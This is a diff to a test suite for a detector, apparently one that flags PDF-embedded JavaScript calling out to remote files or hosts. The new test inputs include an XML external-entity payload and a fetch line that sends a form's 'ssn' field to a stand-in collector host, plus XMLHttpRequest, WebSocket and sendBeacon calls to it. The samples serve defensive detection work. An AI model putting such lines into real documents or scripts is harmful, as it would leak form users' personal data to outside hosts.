@@ -22,6 +22,11 @@ describe("findCallbackCalls", () => {
     ['this.importSound("beep", "/c/sounds/beep.wav");', "importSound", "file", "beep"],
     ['this.importAnXFDF("/c/data/answers.xfdf");', "importAnXFDF", "file", "/c/data/answers.xfdf"],
     ['xfa.host.importData("/c/data/answers.xml");', "xfa.host.importData", "file", "/c/data/answers.xml"],
+    ['var x = "<?xml version=\\"1.0\\"?><!DOCTYPE r [<!ENTITY e SYSTEM \\"http://collect.example/x\\">]><r>&e;</r>"; XMLData.parse(x, true);', "XMLData.parse (external entity)", "network", "http://collect.example/x"],
+    ["fetch('https://collect.example/p?d=' + escape(this.getField('ssn').value));", "fetch (remote)", "network", "https://collect.example/p?d="],
+    ['var r = new XMLHttpRequest(); r.open("GET", "https://collect.example/x");', "XMLHttpRequest", "network", undefined],
+    ['var w = new WebSocket("wss://collect.example/s");', "WebSocket", "network", "wss://collect.example/s"],
+    ['navigator.sendBeacon("https://collect.example/b", data);', "navigator.sendBeacon", "network", "https://collect.example/b"],
     ['this.insertPages({ nPage: 0, cPath: "\\\\\\\\files.example\\\\share\\\\cover.pdf" });', "insertPages (remote)", "file", "\\\\files.example\\share\\cover.pdf"],
     ['this.addWatermarkFromFile({ cDIPath: "//files.example/share/mark.pdf" });', "addWatermarkFromFile (remote)", "file", "//files.example/share/mark.pdf"],
   ])("finds %s", (script, api, role, target) => {
@@ -38,6 +43,8 @@ describe("findCallbackCalls", () => {
   it("does not count a local app.openDoc, a lookalike name or a plain string", () => {
     expect(findCallbackCalls('app.openDoc("appendix.pdf", this); app.openDoc("/c/docs/a.pdf");', defaultBudget())).toEqual([]);
     expect(findCallbackCalls('this.insertPages({ nPage: 0, cPath: "/c/docs/cover.pdf" }); this.replacePages({ cPath: "annex.pdf" });', defaultBudget())).toEqual([]);
+    // XMLData.parse of a document without external entities, a script's own fetch of a field, a method named fetch
+    expect(findCallbackCalls('XMLData.parse("<r><a>1</a></r>", false); var v = fetch("amount"); cache.fetch("https://x.example/");', defaultBudget())).toEqual([]);
     expect(findCallbackCalls("mySubmitFormHelper(); var submitFormLabel = 1;", defaultBudget())).toEqual([]);
     expect(findCallbackCalls('var help = "call submitForm later";', defaultBudget())).toEqual([]);
   });
